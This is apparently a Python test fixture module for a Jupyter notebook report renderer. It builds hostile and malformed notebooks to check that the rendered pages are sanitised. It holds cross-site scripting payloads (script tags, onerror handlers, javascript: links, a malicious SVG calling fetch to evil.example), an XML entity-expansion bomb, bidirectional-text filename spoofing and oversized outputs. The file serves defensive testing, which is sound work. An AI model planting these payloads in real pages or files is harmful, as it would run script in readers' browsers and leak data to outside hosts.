"""Notebooks that want to harm who reads their report, or that are broken: each with what has to be left of it."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from k2lab.cells.result import FIGURE_MIME, RESULT_MIME
from k2lab.plots.vector import MIME as SVG_MIME
from tests.report.story import png

CALL = "window.pwned=1;alert(1);fetch('http://evil.example/')"
SCRIPT = f"<script>{CALL}</script>"
IMAGE = f'<img src=x onerror="{CALL}"><img src="http://evil.example/pixel.png">'
BREAKOUT = f"\"'></title></style></script></textarea></svg></table>--> {SCRIPT}{IMAGE}"
SVG = f"""<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"
 onload="{CALL}" style="background:url(http://evil.example/a.png)">
<script>{CALL}</script><style>@import url(http://evil.example/b.css);</style>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.example/"></iframe></body></foreignObject>
<image xlink:href="http://evil.example/c.png" width="9" height="9"/><use xlink:href="http://evil.example/d.svg#x"/>
<a xlink:href="javascript:{CALL}"><text x="5" y="20" onclick="{CALL}">kept text</text></a>
<rect width="50" height="40" fill="url(http://evil.example/e#f)" stroke="#235ca8" style="fill:expression(alert(1))">
<animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/></rect>
<text x="5" y="50">kept words</text></svg>"""
BOMB = (
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'
)
BIDI = "pay \u202egnp.exe\u202c \u2066isolated\u2069 \u200fend"


def _code(*outputs: Any, source: str = "1") -> NotebookNode:
    return new_notebook(cells=[new_code_cell(source, execution_count=1, outputs=list(outputs))])


def _shown(**data: Any) -> Any:
    return new_output("display_data", data={key.replace("__", "/"): value for key, value in data.items()})


def _table(name: str, value: str) -> str:
    return (
        f"<table class='x' style='position:fixed' onmouseover='{CALL}'><tr><th>{name}</th><td>{value}</td></tr></table>"
    )


def corpus() -> Iterator[tuple[str, NotebookNode, tuple[str, ...]]]:
    """Give a name, a notebook, and words that its page has to show."""
    yield (
        "column names and values",
        _code(_shown(text__html=_table(f"kept{IMAGE}", f"value{SCRIPT}"))),
        ("kept", "value"),
    )
    escaped = BREAKOUT.replace("<", "&lt;")
    yield "escaped column names", _code(_shown(text__html=_table(escaped, "value"))), ("onerror=", "value")
    yield "plain text", _code(_shown(text__plain=BREAKOUT), new_output("stream", text=BREAKOUT)), (SCRIPT,)
    yield "svg", _code(_shown(**{"image/svg+xml": SVG})), ()
    yield "our svg", _code(_shown(**{SVG_MIME: SVG, FIGURE_MIME: {"alt": BREAKOUT, "caption": BREAKOUT}})), (
        "kept text", "kept words", "onerror=",
    )  # fmt: skip
    yield "svg of entities", _code(_shown(**{"image/svg+xml": BOMB, "text/plain": "kept"})), ("kept",)
    markdown = (
        f"# Title {SCRIPT}\n\n{IMAGE}\n\n[kept link](javascript:{CALL}) ![far](http://evil.example/p.png) "
        f"![x](data:text/html;base64,PHNjcmlwdD4=)\n\n<details open ontoggle={CALL}>kept words</details>\n\n"
        "[a](data:text/html,<script>alert(1)</script>)"
    )
    yield "markdown", new_notebook(cells=[new_markdown_cell(markdown)]), ("kept link", "kept words", "far")
    yield "markdown output", _code(_shown(text__markdown=markdown)), ("kept link", "kept words")
    attached = new_markdown_cell("![good](attachment:a.png) ![bad](attachment:b.svg) ![none](attachment:c.png)")
    attached["attachments"] = {"a.png": {"image/png": png(20, 10)}, "b.svg": {"image/svg+xml": SVG}}
    yield "attachments", new_notebook(cells=[attached]), ("[bad]", "[none]")
    error = new_output("error", ename=f"E{SCRIPT}", evalue=f"kept {IMAGE}", traceback=["\x1b[31mx\x1b[0m" + SCRIPT])
    yield "error text", _code(error), ("kept",)
    evil = _code(source=BREAKOUT)
    evil.cells[0].metadata = from_dict({"tags": [BREAKOUT, 7], "k2lab": [BREAKOUT]})  # not valid, and met all the same
    evil.metadata = from_dict({
        "title": BREAKOUT, "kernelspec": {"name": "x", "display_name": BREAKOUT, "language": BREAKOUT},
        "k2lab": {"runs": "not a list", "renewed": [BREAKOUT]}, "widgets": {"state": {BREAKOUT: BREAKOUT}},
    })  # fmt: skip
    yield "metadata", evil, ("onerror=",)
    yield "run metadata", _runs(), ("onerror=",)
    yield "bidirectional text", _code(_shown(text__plain=BIDI), source=f"# {BIDI}"), ("pay gnp.exe", "isolated")
    yield "ten megabytes", _code(
        new_output("stream", text="start " + "x" * 10_000_000 + " end"),
        _shown(text__html="<table>" + "<tr><td>cell</td></tr>" * 400_000 + "</table>"),
    ), ("start", "end", "characters left out")  # fmt: skip
    yield "broken base64", _code(_shown(image__png="!!!not base64!!!", text__plain="kept instead")), ("kept instead",)
    yield "a picture that is none", _code(
        _shown(image__png=base64.b64encode(b"GIF89a" + SCRIPT.encode()).decode(), text__plain="kept")
    ), ("kept",)  # fmt: skip
    unknown = {"application/x-evil": SCRIPT, "application/vnd.evil+json": {"a": BREAKOUT}}
    yield "unknown types", _code(_shown(**unknown)), ("application/vnd.evil+json", "application/x-evil")
    yield "script outputs", _code(
        _shown(**{"application/javascript": CALL, "text/plain": "<IPython.core.display.Javascript object>"})
    ), ("application/javascript",)  # fmt: skip
    yield "json", _code(_shown(**{"application/json": {"kept": BREAKOUT}})), ("kept",)
    result = {
        "kind": BREAKOUT, "title": BREAKOUT, "tables": [{"columns": [BREAKOUT], "rows": [[BREAKOUT], 5]}, None],
        "estimates": [{"value": "x"}, 3], "tests": {"p": 1}, "checks": [BREAKOUT], "sentences": [{"text": BREAKOUT}],
        "model": {
            "family": "gaussian", "link": "identity", "scale": "raw", "outcome": BREAKOUT, "event": "",
            "terms": [{"name": BREAKOUT, "kind": "category", "levels": [BREAKOUT, "kept"], "counts": [5, 6]}],
            "coefficients": [[], [[BREAKOUT, "kept"]]], "params": [1.0, 2.0], "cov": [[0.1, 0.0], [0.0, 0.1]],
            "critical": 1.96, "level": 0.95, "n": 11, "df": 9.0, "rows": {"terms": [BREAKOUT], "counts": [5, 6]},
        },
    }  # fmt: skip
    yield "results and their model", _code(_shown(**{RESULT_MIME: result})), ("kept", "onerror=")
    halves = [{"params": [1]}, {"params": "x", "cov": 3}, {"terms": [{}]}, [], "x", {"params": [], "cov": []}]
    yield "half models", _code(*(_shown(**{RESULT_MIME: {"title": "kept", "model": one}}) for one in halves)), ()


def _runs() -> NotebookNode:
    """Return a notebook whose record of runs holds anything but what it should."""
    tried = [{"step": BREAKOUT, "status": BREAKOUT, "title": BREAKOUT, "seconds": "x"}, 4]
    answer = {"answered": "yes", "summary": BREAKOUT, "findings": [{"text": BREAKOUT, "steps": [BREAKOUT]}, 5]}
    made = {
        "id": "r1", "question": BREAKOUT, "model": BREAKOUT, "answer": answer, "tried": tried,
        "frames": [{"columns": 5}],
        "usage": [1], "cost": BREAKOUT, "provenance": {"data": {BREAKOUT: 5}, BREAKOUT: [BREAKOUT]}, "language": "xx",
    }  # fmt: skip
    mark = {"run": "r1", "step": 1, "kind": "code", "title": BREAKOUT, "why": BREAKOUT, "seconds": "x"}
    cell = new_code_cell(BREAKOUT, metadata={"k2lab": mark}, outputs=[_shown(text__plain="kept")])
    return new_notebook(cells=[cell], metadata={"k2lab": {"runs": [made, "x"]}})


def old_formats() -> Iterator[tuple[str, str]]:
    """Give the text of notebook files of every format that is still met."""
    code = {
        "cell_type": "code", "language": "python", "collapsed": False, "metadata": {}, "input": "1 + 1",
        "prompt_number": 1, "outputs": [{"output_type": "pyout", "prompt_number": 1, "text": "kept 2", "metadata": {}}],
    }  # fmt: skip
    three = {
        "nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "old"},
        "worksheets": [{"cells": [{"cell_type": "heading", "level": 1, "source": "Old title", "metadata": {}}, code]}],
    }  # fmt: skip
    yield "3.0", json.dumps(three)
    for minor in range(6):
        cell = {
            "cell_type": "code", "metadata": {}, "source": "1 + 1", "execution_count": 1,
            "outputs": [{"output_type": "stream", "name": "stdout", "text": "kept 2"}],
        }  # fmt: skip
        if minor == 5:
            cell["id"] = "a1"
        yield f"4.{minor}", json.dumps({"nbformat": 4, "nbformat_minor": minor, "metadata": {}, "cells": [cell]})


INVALID = {
    "empty": "",
    "not json": "{",
    "not text": "\udcff",
    "a list": "[]",
    "a number": "5",
    "no cells": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}',
    "cells of no kind": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "x"}]}',
    "cells that are none": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [5]}',
    "a format to come": '{"nbformat": 9, "nbformat_minor": 0, "metadata": {}, "cells": []}',
    "deep": "[" * 100_000,
}
